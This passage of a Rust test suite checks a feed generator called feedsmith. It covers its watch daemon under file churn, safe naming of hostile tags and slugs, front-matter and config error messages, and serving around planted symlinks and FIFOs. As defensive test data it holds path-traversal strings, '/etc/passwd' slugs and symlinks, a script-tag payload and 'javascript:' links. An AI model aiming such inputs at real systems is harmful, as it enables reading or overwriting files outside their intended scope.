            // Left for a moment, so the daemon may list it and then find it gone.
            let _ = std::fs::write(site.a(&format!("churn/k{}.md", i % 5)), watch_support::story("Kept", DATE, "x"));
        }
        let _ = std::fs::remove_file(&p);
        let _ = std::fs::remove_file(site.a(&format!("churn/k{}.md", (i + 2) % 5)));
        if i % 25 == 0 {
            let dir = site.a(&format!("burst{}", i % 3));
            for k in 0..10 {
                site.write(&format!("burst{}/{k}.md", i % 3), &watch_support::story("Burst", DATE, "x"));
            }
            let _ = std::fs::remove_dir_all(&dir);
        }
        i += 1;
    }
    for entry in std::fs::read_dir(site.a("churn")).expect("read churn").flatten() {
        let _ = std::fs::remove_file(entry.path());
    }
    site.write("final.md", &watch_support::story("Final", DATE, "y"));
    i
}

/// Waits up to the deadline for the feeds to list `want`, then asserts it,
/// showing what is listed and what is on disk.
#[track_caller]
fn assert_feeds_settle_on(site: &watch_support::Site, daemon: &watch_support::Daemon, want: &[&str], context: &str) {
    let settled = Instant::now();
    while !site.all_feeds_list(want) && settled.elapsed() < watch_support::DEADLINE {
        std::thread::sleep(Duration::from_millis(20));
    }
    let on_disk: Vec<PathBuf> = watch_support::walk(&site.articles());
    assert!(
        site.all_feeds_list(want),
        "{context}: the feeds list {:?} (atom {:?}); on disk: {on_disk:?}\n--- daemon log ---\n{}",
        site.titles(),
        site.titles_in("atom.xml"),
        daemon.log()
    );
}

/// Files vanishing between the event, the listing and the read never stop
/// `watch`: after the churn the daemon is alive, has logged no panic, its
/// feeds parse, and a rescan (SIGHUP) leaves exactly what is on disk.
#[test]
fn files_deleted_between_listing_and_reading_never_stop_watch() {
    let site = watch_support::Site::new("debounce_ms = 5");
    site.write("stable.md", &watch_support::story("Stable", DATE, "x"));
    let mut daemon = site.start(&[]);
    daemon.wait("the first build", || site.all_feeds_list(&["Stable"]));
    let rounds = churn(&site);
    daemon.wait("the last story is published", || site.titles().contains(&"Final".to_owned()));
    assert!(daemon.alive(), "the daemon died after {rounds} churn rounds:\n{}", daemon.log());
    assert_eq!(watch_support::unparsable_feeds(&site.out()), Vec::<String>::new());
    daemon.signal("HUP");
    daemon.wait_log("configuration reloaded");
    assert_feeds_settle_on(&site, &daemon, &["Final", "Stable"], "after a reload");
    assert!(!daemon.log().contains("panicked"), "{}", daemon.log());
    let (status, _) = daemon.stop_with("TERM", Duration::from_secs(5));
    assert!(status.is_some_and(|s| s.success()), "{}", daemon.log());
}

/// Bug: after the same churn, without a rescan, a story whose file is gone
/// is sometimes still published, for good (about half the runs on two busy
/// cores; the mechanism is shown deterministically by
/// `stories_removed_within_one_debounce_window_leave_the_feeds`). The
/// daemon read the file because of an older event for its path while
/// notify-debouncer-full still held the file's own `create`; the file was
/// then deleted within the debounce window, and the debouncer drops a
/// create+remove pair as if nothing had happened.
#[test]
fn files_deleted_between_listing_and_reading_leave_the_feeds_without_a_rescan() {
    let site = watch_support::Site::new("debounce_ms = 5");
    site.write("stable.md", &watch_support::story("Stable", DATE, "x"));
    let daemon = site.start(&[]);
    daemon.wait("the first build", || site.all_feeds_list(&["Stable"]));
    let rounds = churn(&site);
    assert_feeds_settle_on(&site, &daemon, &["Final", "Stable"], &format!("after {rounds} churn rounds"));
}

/// Bug: a story removed in one of these ways within one debounce window
/// stays in the feeds until the next rescan (SIGHUP, restart):
///
/// - renamed (`b.md` → `b2.md`), then the new name deleted: the debouncer
///   (notify-debouncer-full) turns `rename b→b2` + `remove b2` into a lone
///   `remove b2`, so `b.md` is never re-checked;
/// - replaced by a rename (`c.md` → `r.md` over an indexed `r.md`), then
///   deleted: the debouncer can drop the pair as "created and removed" (no
///   event at all: reproduced every time from a shell with
///   `printf … > c.md; mv c.md r.md; rm r.md`), so `r.md` is never
///   re-checked;
/// - read by the daemon because of a folder event (a new folder is listed)
///   while its own `create` still waits in the debouncer, then deleted: the
///   debouncer drops create+remove as a no-op, though the daemon has
///   published the file.
///
/// The engine re-checks every path it is told about against the disk, so
/// raw (unmerged) event paths would be enough.
#[test]
fn stories_removed_within_one_debounce_window_leave_the_feeds() {
    let site = watch_support::Site::new("debounce_ms = 1000");
    site.write("stable.md", &watch_support::story("Stable", DATE, "x"));
    site.write("b.md", &watch_support::story("B", DATE, "x"));
    site.write("r.md", &watch_support::story("Old r", DATE, "x"));
    let daemon = site.start(&[]);
    daemon.wait("the first build", || site.all_feeds_list(&["B", "Old r", "Stable"]));
    // Rename an indexed story, then delete the new name.
    std::fs::rename(site.a("b.md"), site.a("b2.md")).expect("rename");
    std::fs::remove_file(site.a("b2.md")).expect("rm");
    // Replace an indexed story by a rename, then delete it.
    site.write("c.md", &watch_support::story("New c", DATE, "x"));
    std::fs::rename(site.a("c.md"), site.a("r.md")).expect("rename");
    std::fs::remove_file(site.a("r.md")).expect("rm");
    // A new folder (listed when its event comes, about 1 s on) whose story
    // is written half-way through the window and deleted before its own
    // event is due.
    let t0 = Instant::now();
    std::fs::create_dir(site.a("sub")).expect("mkdir");
    std::thread::sleep(Duration::from_millis(500));
    site.write("sub/n.md", &watch_support::story("New n", DATE, "x"));
    std::thread::sleep(Duration::from_millis(1400).saturating_sub(t0.elapsed()));
    std::fs::remove_file(site.a("sub/n.md")).expect("rm");
    let settled = Instant::now();
    while !site.all_feeds_list(&["Stable"]) && settled.elapsed() < Duration::from_secs(5) {
        std::thread::sleep(Duration::from_millis(20));
    }
    let on_disk = watch_support::walk(&site.articles());
    assert_eq!(
        site.titles(),
        ["Stable"],
        "deleted stories are still published; on disk: {on_disk:?}\n{}",
        daemon.log()
    );
}

/// Files deleted while `build` lists and reads the folder are simply gone:
/// not rejections (exit 0), and the feeds are whole. Names are never
/// reused and files appear by rename, so every file read is complete.
#[test]
fn files_deleted_during_a_build_are_not_rejections() {
    let t = Tmp::new("");
    // Newer than the churned stories, so always among the newest `limit`.
    t.write("stable.md", "+++\ntitle = \"Stable\"\ndate = 2025-01-01\n+++\nx\n");
    let dir = t.a("many");
    std::fs::create_dir_all(&dir).expect("mkdir");
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let churn = {
        let (dir, stop) = (dir.clone(), stop.clone());
        std::thread::spawn(move || {
            let mut n = 0usize;
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                let tmp = dir.join(format!(".tmp-{n}"));
                std::fs::write(&tmp, toml_story(&format!("Many {n}"), "x")).expect("write");
                std::fs::rename(&tmp, dir.join(format!("m{n:07}.md"))).expect("rename");
                if n >= 300 {
                    std::fs::remove_file(dir.join(format!("m{:07}.md", n - 300))).expect("remove");
                }
                n += 1;
            }
            n
        })
    };
    std::thread::sleep(Duration::from_millis(300));
    for round in 0..4 {
        let run = t.build();
        assert_eq!(run.code, Some(0), "round {round}: a vanished file was treated as a problem:\n{}", run.stderr);
        let items = t.items();
        assert!(items.titles().contains(&"Stable".to_owned()));
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    let made = churn.join().expect("churn thread");
    assert!(made > 300, "the churn made only {made} files");
}

// ================================================================ safe names ===

/// Terms and names made to escape: path separators, dot names, Windows
/// device names, NUL, very long, emoji-only, CJK, RTL overrides, names of
/// the output's own files.
const HOSTILE_TERMS: &[&str] = &[
    "../../etc",
    "..",
    ".",
    ".hidden",
    "a/b",
    "a\\b",
    "/",
    "\\",
    "CON",
    "nul",
    "Com1",
    "LPT9.txt",
    "con.xml",
    "x\0y",
    "😀🎉",
    "八八战略",
    "对标奋进 对表攻坚",
    "   ",
    "-",
    "~",
    "%2e%2e",
    "..%2f..%2fx",
    "\u{202E}gnp.exe",
    "<script>alert(1)</script>",
    "tags",
    "index.html",
    "rss.xml",
    ".git",
    "*?:|\"<>",
    "C:\\Windows",
    "\\\\server\\share",
];

/// Every term (tag, category, author) and every slug becomes one safe path
/// component: after a build, the whole temp tree is walked to prove nothing
/// was created or changed outside the output folder (and the state file),
/// and that everything inside it has the expected layout with safe names.
#[test]
fn hostile_terms_and_names_never_leave_the_output_folder_and_every_component_is_safe() {
    let t = Tmp::new("taxonomy_feeds = [\"tags\", \"categories\", \"authors\"]");
    let long = "t".repeat(300);
    let mut terms: Vec<String> = HOSTILE_TERMS.iter().map(|s| s.to_string()).collect();
    terms.push(long.clone());
    let list = terms.iter().map(|s| toml_str(s)).collect::<Vec<_>>().join(", ");
    let with_terms = |title: &str, extra: &str| {
        format!(
            "+++\ntitle = {}\ndate = {DATE}\ntags = [{list}]\ncategories = [{list}]\nauthors = [{list}]\n{extra}+++\n\nbody\n",
            toml_str(title)
        )
    };
    let files: &[(&str, &str, &str)] = &[
        ("my story.md", "Spaces", ""),
        ("对标 奋进.md", "CJK", ""),
        ("CON.md", "Con", ""),
        ("nul.txt", "Nul", ""),
        ("a%2fb.md", "Percent", ""),
        ("x?y#z.md", "Query", ""),
        ("a\\b.md", "Backslash", ""),
        ("line\nbreak.md", "Newline", ""),
        ("2024-03-07-%2e%2e.md", "Dots after date", ""),
        ("slug-escape.md", "Slug escape", "slug = \"../../escape\"\n"),
        ("slug-abs.md", "Slug absolute", "slug = \"/etc/passwd\"\n"),
        ("slug-dots.md", "Slug dots", "slug = \"..\"\n"),
        ("slug-backslash.md", "Slug backslash", "slug = \"..\\\\..\\\\x\"\n"),
        ("id-escape.md", "Id escape", "id = \"../../x\"\n"),
        ("emoji.md", "😀", ""),
    ];
    for (name, title, extra) in files {
        t.write(name, with_terms(title, extra));
    }
    let before = snapshot(t.root());
    let run = t.build();
    run.assert_code(0);
    let after = snapshot(t.root());

    // Nothing outside out/ and the state file changed or appeared.
    for (path, kind) in &after {
        if path.starts_with("out") || path == Path::new("state.json") {
            continue;
        }
        assert_eq!(before.get(path), Some(kind), "{} was created or changed outside the output folder", path.display());
    }
    for path in before.keys() {
        assert!(after.contains_key(path), "{} was removed", path.display());
    }

    // Inside out/: the expected layout, every component safe.
    let segment = regex::Regex::new(r"^[a-z0-9]+(-[a-z0-9]+)*$").expect("regex");
    let month = regex::Regex::new(r"^\d{4}-\d{2}$").expect("regex");
    let reserved = regex::Regex::new(r"^(con|prn|aux|nul|com[0-9]|lpt[0-9])(\..*)?$").expect("regex");
    let feed_files = ["rss.xml", "atom.xml", "feed.json"];
    let mut term_folders: BTreeSet<(String, String)> = BTreeSet::new();
    for (path, kind) in after.iter().filter(|(p, _)| p.starts_with("out")) {
        let rel = path.strip_prefix("out").expect("under out");
        let parts: Vec<&str> = rel.iter().map(|c| c.to_str().expect("UTF-8 output names")).collect();
        assert!(!matches!(kind, Kind::Link(_) | Kind::Other), "{}: not a file or folder", path.display());
        let ok = match (parts.as_slice(), kind) {
            ([], Kind::Dir) => true,
            ([f], Kind::File(_)) => feed_files.contains(f) || *f == "index.html",
            (["tags" | "categories" | "authors" | "archive"], Kind::Dir) => true,
            ([tax @ ("tags" | "categories" | "authors"), term], Kind::Dir) => {
                assert!(segment.is_match(term), "unsafe term folder {tax}/{term:?}");
                assert!(term.len() <= 100, "term folder of {} bytes", term.len());
                assert!(!reserved.is_match(term), "a Windows device name: {term}");
                term_folders.insert((tax.to_string(), term.to_string()));
                true
            }
            (["tags" | "categories" | "authors", _, f], Kind::File(_)) => feed_files.contains(f),
            (["archive", m], Kind::Dir) => month.is_match(m),
            (["archive", m, f], Kind::File(_)) => month.is_match(m) && feed_files.contains(f),
            _ => false,
        };
        assert!(ok, "unexpected output path {}", path.display());
    }
    // Every taxonomy got the same term folders: the distinct safe names.
    let names = |tax: &str| -> BTreeSet<String> {
        term_folders.iter().filter(|(t, _)| t == tax).map(|(_, n)| n.clone()).collect()
    };
    assert!(names("tags").len() >= 20, "too few term feeds: {:?}", names("tags"));
    assert_eq!(names("tags"), names("categories"));
    assert_eq!(names("tags"), names("authors"));

    // Every URL in every feed stays under the site, with no dot segments.
    for (tax, term) in &term_folders {
        let items = items_in(&t.out(), &format!("{tax}/{term}/"));
        assert_eq!(items.rss.len(), files.len(), "{tax}/{term} lists every story");
    }
    let items = t.items();
    assert_eq!(items.rss.len(), files.len(), "{}", run.stderr);
    for item in items.all() {
        for u in [&item.link, &item.id] {
            let url = url::Url::parse(u).unwrap_or_else(|e| panic!("{}: {u:?} is not a URL: {e}", item.format));
            assert_eq!(url.host_str(), Some("news.example.com"), "{u}");
            assert!(url.path_segments().is_some_and(|mut s| s.all(|s| s != ".." && s != ".")), "{u}");
            assert!(!u.contains(' ') && !u.contains('\\') && !u.contains('\n'), "{u}");
        }
    }
    let rss = std::fs::read_to_string(t.out().join("rss.xml")).expect("rss");
    assert!(!rss.contains("news.example.com/etc/") && !rss.contains("news.example.com/escape/"), "a slug escaped");
}

/// Bug: a story file whose name is not valid UTF-8 (what unzipping a
/// Windows archive with GBK names gives) is skipped without a word: the
/// story silently never appears. It should be read (named lossily) or at
/// least reported.
#[test]
fn a_story_file_with_a_non_utf8_name_is_not_skipped_silently() {
    use std::os::unix::ffi::OsStrExt;
    let t = Tmp::new("");
    t.write("good.md", toml_story("Good", "x"));
    // 对标.md in GBK bytes.
    let name = std::ffi::OsStr::from_bytes(b"\xB6\xD4\xB1\xEA.md");
    std::fs::write(t.articles().join(name), toml_story("GBK name", "x")).expect("write");
    let run = t.build();
    let published = t.items().titles().contains(&"GBK name".to_owned());
    let reported = run.stderr.lines().any(|l| l.contains(".md") && !l.contains("good.md") && !l.contains(" INFO "));
    assert!(published || reported, "the story is neither published nor reported:\n{}", run.stderr);
}

/// `feedsmith new` with a title made to escape writes one file directly
/// in the articles folder, named safely.
#[test]
fn new_with_a_hostile_title_creates_one_safely_named_file_in_the_articles_folder() {
    let t = Tmp::new("");
    for title in ["../../etc/passwd", "..", "CON", "a\\b", ".hidden", "😀", "/abs/path"] {
        let before = snapshot(t.root());
        let run = t.run("new", &[title], Duration::from_secs(30));
        run.assert_code(0);
        let after = snapshot(t.root());
        let created: Vec<&PathBuf> = after.keys().filter(|p| !before.contains_key(*p)).collect();
        assert_eq!(created.len(), 1, "{title:?}: created {created:?}");
        let rel = created[0].strip_prefix("articles").unwrap_or_else(|_| panic!("{title:?}: {created:?} is outside"));
        let name = rel.to_str().expect("UTF-8");
        assert!(!name.contains('/') && !name.starts_with('.') && name.ends_with(".md"), "{title:?} -> {name:?}");
        assert!(run.stdout.trim().ends_with(name), "{title:?}: printed {}", run.stdout);
        assert!(!name.to_ascii_lowercase().starts_with("con."), "{title:?} -> {name}");
    }
}

// ==================================================== front matter mistakes ===

/// The `path:line:col: message — hint` line naming `file`, as (line, col, message).
#[track_caller]
fn position(run: &hostile_support::Run, file: &str) -> (usize, usize, String) {
    let line = run.rejection(file);
    let re = regex::Regex::new(&format!(r"^.*articles/{}:(\d+):(\d+): (.+) — (.+)$", regex::escape(file))).expect("re");
    let c = re.captures(line).unwrap_or_else(|| panic!("{file}: want `path:line:col: message — hint`, got {line}"));
    (c[1].parse().expect("line"), c[2].parse().expect("col"), c[3].to_owned())
}

/// TOML and YAML syntax errors are reported as `path:line:col:` with the
/// line of the *file* (not of the front matter), whatever the BOM and line
/// endings; an unclosed fence points at the opening fence.
#[test]
fn front_matter_syntax_errors_point_at_the_file_line_and_column() {
    let t = Tmp::new("");
    t.write("good.md", toml_story("Good", "x"));
    // Line 6 is `draft = tru`: the bad value starts at column 9.
    let toml = "+++\n# a comment\n\ntitle = \"t\"\ndate = 2024-03-07\ndraft = tru\n+++\nbody\n";
    t.write("toml.md", toml);
    t.write("toml-bom-crlf.md", format!("\u{FEFF}{}", toml.replace('\n', "\r\n")));
    t.write("toml-cr.md", toml.replace('\n', "\r"));
    t.write("toml-utf16.md", utf16(toml, true));
    // Line 5 is `summary: Hello: world` (a second `: ` in a plain scalar).
    let yaml = "---\n# a comment\ntitle: t\ndate: 2024-03-07\nsummary: Hello: world\n---\nbody\n";
    t.write("yaml.md", yaml);
    t.write("yaml-bom-crlf.md", format!("\u{FEFF}{}", yaml.replace('\n', "\r\n")));
    t.write("unclosed-toml.md", "+++\ntitle = \"t\"\ndate = 2024-03-07\n\nbody, no closing fence\n");
    t.write("unclosed-yaml.md", "---\ntitle: t\n");
    let run = t.build();
    run.assert_code(1);
    for file in ["toml.md", "toml-bom-crlf.md", "toml-cr.md", "toml-utf16.md"] {
        let (line, col, message) = position(&run, file);
        assert_eq!((line, col), (6, 9), "{file}: {message}");
        assert!(message.starts_with("TOML front matter"), "{file}: {message}");
    }
    for file in ["yaml.md", "yaml-bom-crlf.md"] {
        let (line, col, message) = position(&run, file);
        assert_eq!(line, 5, "{file}: {message}");
        assert!((14..=16).contains(&col), "{file}: column {col} is not at the second `:`: {message}");
        assert!(message.starts_with("YAML front matter"), "{file}: {message}");
        assert!(!message.contains("line 4"), "{file}: the message repeats a front-matter line number: {message}");
    }
    for file in ["unclosed-toml.md", "unclosed-yaml.md"] {
        let (line, col, message) = position(&run, file);
        assert_eq!((line, col), (1, 1), "{file}: {message}");
        assert!(message.contains("never closed"), "{file}: {message}");
    }
    assert_eq!(t.items().titles(), ["Good"]);
}

/// Values of the wrong type get a message saying what is expected, at the
/// key's file line; the documented coercions (a single string for a list,
/// a number for text) are applied silently.
#[test]
fn wrong_types_say_what_is_expected_and_documented_coercions_apply() {
    let t = Tmp::new("");
    let head = "+++\n# comment\ntitle = \"T\"\n"; // the key under test is on line 4
    let bad: &[(&str, &str, &str)] = &[
        ("date-int.md", "date = 12\n", "`date` must be a date"),
        ("date-bool.md", "date = true\n", "`date` must be a date"),
        ("draft-string.md", "draft = \"yes\"\n", "`draft` must be true or false"),
        ("title-list.md", "title = []\n", "`title` must be text"),
        ("tags-table.md", "tags = { a = 1 }\n", "`tags` must be a list of text"),
        ("tags-nested.md", "tags = [[\"a\"]]\n", "`tags` must be a list of text"),
        ("authors-nested.md", "authors = [[\"a\"]]\n", "`authors` must be a name"),
        ("date-words.md", "date = \"yesterday\"\n", "invalid date \"yesterday\""),
        ("date-impossible.md", "date = \"2024-02-30\"\n", "invalid date \"2024-02-30\""),
        ("link-js.md", "link = \"javascript:alert(1)\"\n", "invalid link"),
        ("link-data.md", "link = \"data:text/html,x\"\n", "invalid link"),
    ];
    for (name, line, _) in bad {
        let text = if line.starts_with("title") {
            format!("+++\n# comment\n# no title yet\n{line}date = {DATE}\n+++\nx\n")
        } else if line.starts_with("date") {
            format!("{head}{line}+++\nx\n")
        } else {
            format!("{head}{line}date = {DATE}\n+++\nx\n")
        };
        t.write(name, text);
    }
    // YAML 1.2: `yes` is a string, not a boolean (the "Norway problem").
    t.write("yaml-draft-yes.md", "---\n# c\ntitle: T\ndraft: yes\n---\nx\n");
    t.write("yaml-date-int.md", "---\n# c\ntitle: T\ndate: 12\n---\nx\n");
    // Coercions.
    t.write("tags-string.md", format!("+++\ntitle = \"Tags string\"\ndate = {DATE}\ntags = \"solo\"\n+++\nx\n"));
    t.write("yaml-tags-string.md", "---\ntitle: Yaml tags string\ndate: 2024-03-07\ntags: solo\n---\nx\n");
    t.write("number-title.md", format!("+++\ntitle = 42\ndate = {DATE}\nauthor = 7\n+++\nx\n"));
    let run = t.build();
    run.assert_code(1);
    for (name, _, needle) in bad {
        let (line, _, message) = position(&run, name);
        assert!(message.contains(needle), "{name}: want {needle:?} in {message}");
        assert_eq!(line, 4, "{name}: the key is on file line 4: {message}");
    }
    for (name, needle) in [("yaml-draft-yes.md", "`draft` must be true or false"), ("yaml-date-int.md", "`date`")] {
        let (line, _, message) = position(&run, name);
        assert!(message.contains(needle), "{name}: {message}");
        assert_eq!(line, 4, "{name}: {message}");
    }
    for coerced in ["tags-string.md", "yaml-tags-string.md", "number-title.md"] {
        assert!(run.lines_naming(coerced).is_empty(), "{coerced} is fine:\n{}", run.stderr);
    }
    let items = t.items();
    assert_eq!(items.titles(), ["42", "Tags string", "Yaml tags string"]);
    for item in items.all().filter(|i| i.title.contains("ags string")) {
        assert_eq!(item.tags, ["solo"], "{}", item.format);
    }
    assert!(t.out().join("tags/solo/rss.xml").is_file());
}

/// Two files claiming one id (the same front matter `id`, or the same
/// slug): both are reported, and the one whose path sorts first is
/// published — whichever is newer, and the same on every run. In `watch`,
/// deleting the winner publishes the other.
#[test]
fn duplicate_ids_are_reported_and_the_path_that_sorts_first_wins() {
    let t = Tmp::new("");
    let story =
        |title: &str, date: &str, extra: &str| format!("+++\ntitle = \"{title}\"\ndate = {date}\n{extra}+++\n\nx\n");
    // Written in reverse order, so directory order is not sort order.
    t.write("z/same.md", story("Same z", "2024-03-09", ""));
    t.write("same.md", story("Same plain", "2024-03-08", ""));
    t.write("2024-03-01-same.md", story("Same dated", "2024-03-01", ""));
    t.write("b-newer.md", story("B newer", "2024-03-09", "id = \"urn:dup:1\"\n"));
    t.write("a-older.md", story("A older", "2024-03-01", "id = \"urn:dup:1\"\n"));
    for _ in 0..2 {
        let run = t.build();
        run.assert_code(1);
        let b = run.rejection("b-newer.md");
        assert!(b.contains("urn:dup:1") && b.contains("a-older.md"), "{b}");
        for loser in ["same.md", "z/same.md"] {
            let line = run.rejection(&format!("articles/{loser}"));
            assert!(line.contains("2024-03-01-same.md") && line.contains("is also used by"), "{line}");
        }
        assert_eq!(t.items().titles(), ["A older", "Same dated"]);
    }

    let site = watch_support::Site::new("");
    site.write("b-newer.md", &story("B newer", "2024-03-09", "id = \"urn:dup:1\"\n"));
    site.write("a-older.md", &story("A older", "2024-03-01", "id = \"urn:dup:1\"\n"));
    let daemon = site.start(&[]);
    daemon.wait("the winner is published", || site.all_feeds_list(&["A older"]));
    std::fs::remove_file(site.a("a-older.md")).expect("rm");
    daemon.wait("the other takes its place", || site.all_feeds_list(&["B newer"]));
}

// ===================================================== configuration mistakes ===

/// Configuration syntax and type errors: exit 2, `feedsmith.toml:line:col:`
/// on stderr, nothing written (no output folder, no state file).
#[test]
fn config_syntax_and_type_errors_are_usage_errors_with_file_line_and_column() {
    let cases: &[(&str, usize, &str)] = &[
        ("title = \"x\"\nlimit = \"ten\"\n", 2, ""),
        ("title = \"x\"\n\nmax_article_bytes = -5\n", 3, ""),
        ("taxonomy_feeds = \"tags\"\n", 1, ""),
        ("# c\ntaxonomy_feeds = [\"tags\", \"colours\"]\n", 2, "colours"),
        ("archives = \"yes\"\n", 1, ""),
        ("title = \"unclosed\n", 1, ""),
        ("title = \"a\"\n[extra]\nx = 1\n", 2, "extra"),
        ("timezone = 8\n", 1, ""),
        ("title = \"a\"\ntitle = \"b\"\n", 2, "duplicate key"),
        ("debounce_ms = 1.5\n", 1, ""),
        ("\u{FEFF}title = \"x\"\r\nlimt = 5\r\n", 2, "limt"),
    ];
    for (text, line, needle) in cases {
        let t = Tmp::new("");
        t.write("a.md", toml_story("A", "x"));
        std::fs::write(t.config_path(), text).expect("write config");
        let run = t.build();
        run.assert_code(2);
        let want = format!("feedsmith.toml:{line}:");
        assert!(run.stderr.contains(&want), "{text:?}: want {want} in {}", run.stderr);
        assert!(run.stderr.contains(needle), "{text:?}: want {needle:?} in {}", run.stderr);
        assert!(!t.out().exists() && !t.state().exists(), "{text:?}: something was written");
        // `check` and `watch` refuse the same file the same way.
        for command in ["check", "watch"] {
            let run = t.run(command, &[], Duration::from_secs(30));
            assert_eq!(run.code, Some(2), "{command} {text:?}: {}", run.stderr);
            assert!(run.stderr.contains(&want), "{command} {text:?}: {}", run.stderr);
        }
    }
}

/// A configuration saved with a BOM and CRLF line endings (Windows
/// Notepad) is read like any other.
#[test]
fn a_config_file_with_bom_and_crlf_works() {
    let t = Tmp::new("");
    std::fs::write(
        t.config_path(),
        "\u{FEFF}title = \"永康日报\"\r\nbase_url = \"https://news.example.com/\"\r\ntimezone = \"Asia/Shanghai\"\r\n",
    )
    .expect("write");
    t.write("a.md", toml_story("A", "x"));
    t.build().assert_code(0);
    assert_eq!(t.items().titles(), ["A"]);
}

/// Bug: values that parse but are invalid (an unknown timezone, a base_url
/// that is not a URL, `limit = 0`, a bad hub URL) are reported as
/// `feedsmith.toml: invalid …` without the line and column that story
/// front matter errors and config syntax errors carry.
#[test]
fn invalid_config_values_carry_file_line_and_column() {
    for (text, line) in [
        ("title = \"x\"\ntimezone = \"CST\"\n", 2),
        ("# c\nbase_url = \"news.example.com\"\n", 2),
        ("\n\nlimit = 0\n", 3),
        ("websub_hubs = [\"ftp://hub\"]\n", 1),
    ] {
        let t = Tmp::new("");
        std::fs::write(t.config_path(), text).expect("write config");
        let run = t.build();
        run.assert_code(2);
        assert!(run.stderr.contains(&format!("feedsmith.toml:{line}:")), "{text:?}: {}", run.stderr);
    }
}

// =================================================================== serving ===

/// Starts `watch --serve 127.0.0.1:0` and returns the daemon and `host:port`.
fn serve(site: &watch_support::Site) -> (watch_support::Daemon, String) {
    let daemon = site.start(&["--serve", "127.0.0.1:0"]);
    daemon.wait_log("serving ");
    let addr = daemon
        .log()
        .lines()
        .find_map(|l| l.split(" at http://").nth(1))
        .expect("the log names the address")
        .trim()
        .trim_end_matches('/')
        .to_owned();
    (daemon, addr)
}

/// A raw `GET path` with a deadline: the status line, or `None` when no
/// answer came in time.
fn get_status(addr: &str, path: &str, deadline: Duration) -> Option<String> {
    use std::io::{Read, Write};
    let mut stream = std::net::TcpStream::connect(addr).expect("connect");
    stream.set_read_timeout(Some(deadline)).expect("timeout");
    write!(stream, "GET {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n").expect("send");
    let mut response = Vec::new();
    let _ = stream.read_to_end(&mut response);
    let text = String::from_utf8_lossy(&response).into_owned();
    (!text.is_empty()).then(|| text.lines().next().unwrap_or("").to_owned() + "\n" + &text)
}

/// Symlinks planted in the output folder (by a careless deploy script or
/// another user) never serve what lies outside it: a link to a file
/// outside, and a file under a linked folder outside, are 404.
#[test]
fn symlinks_in_the_output_folder_pointing_outside_are_404() {
    let site = watch_support::Site::new("");
    site.write("a.md", &watch_support::story("A", DATE, "x"));
    let secret_dir = site.root().join("secret");
    std::fs::create_dir_all(&secret_dir).expect("mkdir");
    std::fs::write(secret_dir.join("rss.xml"), "TOP SECRET").expect("write");
    std::fs::write(site.root().join("secret.xml"), "TOP SECRET").expect("write");
    let (_daemon, addr) = serve(&site);
    let out = site.out();
    // Planted after the first build, while the server runs.
    symlink(site.root().join("secret.xml"), out.join("evil.xml"));
    symlink(&secret_dir, out.join("tags/evil"));
    symlink("/etc/passwd", out.join("passwd.xml"));
    for path in ["/evil.xml", "/tags/evil/rss.xml", "/passwd.xml", "/tags/evil/"] {
        let got = get_status(&addr, path, Duration::from_secs(5)).expect("an answer");
        assert!(got.starts_with("HTTP/1.1 404"), "{path}: {got}");
        assert!(!got.contains("TOP SECRET") && !got.contains("root:"), "{path} leaked: {got}");
    }
    let ok = get_status(&addr, "/rss.xml", Duration::from_secs(5)).expect("an answer");
    assert!(ok.starts_with("HTTP/1.1 200"), "{ok}");
}

/// Bug: a FIFO in the output folder hangs the request for it (the server
/// opens the file before checking that it is a regular file, and opening a
/// FIFO blocks until a writer comes), tying up a blocking thread for ever.
#[test]
fn a_fifo_in_the_output_folder_is_404_at_once() {
    let site = watch_support::Site::new("");
    site.write("a.md", &watch_support::story("A", DATE, "x"));
    let (_daemon, addr) = serve(&site);
    let fifo = site.out().join("fifo.xml");
    mkfifo(&fifo);
    let got = get_status(&addr, "/fifo.xml", Duration::from_secs(3));
    // Unblock a server thread stuck in open(): opening the write end lets it go on.
    std::thread::spawn(move || drop(std::fs::OpenOptions::new().write(true).open(fifo)));
    let got = got.expect("no answer within 3 s: the request hangs on the FIFO");
    assert!(got.starts_with("HTTP/1.1 404"), "{got}");
}

/// Bug: symlinks planted in the output folder are followed when feedsmith
/// writes and cleans up term feeds: on the first publish, every
/// `tags/<x>/{rss.xml,atom.xml,feed.json}` is a removal candidate, so a
/// link `tags/x -> /elsewhere` makes feedsmith delete /elsewhere/rss.xml;
/// and a link named like a live term makes it write the feeds there.
#[test]
fn symlinks_planted_in_the_output_folder_never_make_feedsmith_touch_files_outside_it() {
    let t = Tmp::new("");
    t.write("a.md", format!("+++\ntitle = \"A\"\ndate = {DATE}\ntags = [\"live\"]\n+++\nx\n"));
    let victim = t.root().join("victim");
    std::fs::create_dir_all(&victim).expect("mkdir");
    std::fs::write(victim.join("rss.xml"), "keep me").expect("write");
    std::fs::write(victim.join("feed.json"), "keep me").expect("write");
    let elsewhere = t.root().join("elsewhere");
    std::fs::create_dir_all(&elsewhere).expect("mkdir");
    symlink(&victim, t.out().join("tags/gone"));
    symlink(&elsewhere, t.out().join("tags/live"));
    let before_victim = snapshot(&victim);
    t.build().assert_code(0);
    assert_eq!(snapshot(&victim), before_victim, "files outside the output folder were deleted or changed");
    assert!(
        snapshot(&elsewhere).is_empty(),
        "feeds were written outside the output folder: {:?}",
        snapshot(&elsewhere)
    );
}

// ============================================== library: proptest and fuzzing ===

mod library {
    use std::path::Path;
    use std::sync::Arc;

    use chrono::{DateTime, Utc};
    use feedsmith::article::{self, decode, Site, Source};
    use feedsmith::feed::{self, Head, Selected};
    use proptest::prelude::*;
    use proptest::test_runner::{Config, FileFailurePersistence};

    use super::assert_harmless;

    fn base() -> url::Url {
        url::Url::parse("https://news.example.com/").expect("url")
    }

    /// The encodings of U+FFFD a decoded text may honestly hold: UTF-8,
    /// UTF-16 LE/BE and GB18030 (0x84 0x31 0xA4 0x37).
    fn holds_a_replacement_character(bytes: &[u8]) -> bool {
        [&b"\xEF\xBF\xBD"[..], b"\xFD\xFF", b"\xFF\xFD", b"\x84\x31\xA4\x37"]
            .iter()
            .any(|needle| bytes.windows(needle.len()).any(|w| w == *needle))
    }

    /// What the `article_parse` fuzz target checks, and more: decoding and
    /// parsing any bytes never panics; decoded text has no CR and no U+FFFD
    /// the input did not hold; one-line fields are one line of XML-safe
    /// text; content HTML is harmless.
    pub(super) fn check_story_bytes(bytes: &[u8]) {
        let Ok((text, _)) = decode::decode(bytes) else { return };
